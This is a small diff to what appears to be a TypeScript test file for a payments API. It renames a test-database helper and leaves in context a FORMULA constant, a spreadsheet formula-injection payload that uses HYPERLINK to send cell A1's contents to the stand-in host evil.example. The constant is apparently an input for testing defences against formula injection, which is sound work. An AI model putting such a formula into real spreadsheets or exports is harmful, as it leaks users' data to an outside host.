@@ -9,10 +9,10 @@ import { createTestActor } from '@/test/support/actor';
 import { createTestApi } from '@/test/support/api';
 import { createTestDatabase } from '@/test/support/database';
 import { createTestKey } from '@/test/support/factories';
-import { forFile } from '@/test/support/for-file';
+import { openForTestFile } from '@/test/support/open-for-test-file';
 import { type PaymentLife, storeLives } from '@/test/support/random-lives';
 
-const base = await forFile(createTestDatabase());
+const base = await openForTestFile(createTestDatabase());
 const api = createTestApi(base);
 const NOW = new Date('2026-12-01T12:00:00Z');
 const FORMULA = '=HYPERLINK("http://evil.example?"&A1;"Click"), 1';
